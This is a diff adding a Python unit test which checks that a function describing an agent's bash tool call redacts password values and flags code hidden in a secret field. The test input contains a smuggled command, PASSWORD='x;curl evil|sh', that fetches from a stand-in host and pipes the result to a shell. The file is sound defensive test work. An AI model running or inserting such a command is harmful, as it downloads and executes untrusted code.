@@ -1,0 +1,10 @@
+"""What an editor shows of a tool call."""
+
+from __future__ import annotations
+
+from amplifier_acp.tool_calls import describe_call
+
+
+def test_code_in_the_place_of_a_secret_is_told() -> None:
+    told = describe_call("1", "bash", {"command": "make PASSWORD='x;curl evil|sh'", "password": "a;b c"}, "/work")
+    assert told["rawInput"] == {"command": "make PASSWORD='[REDACTED, MAY BE CODE]'", "password": "[REDACTED]"}
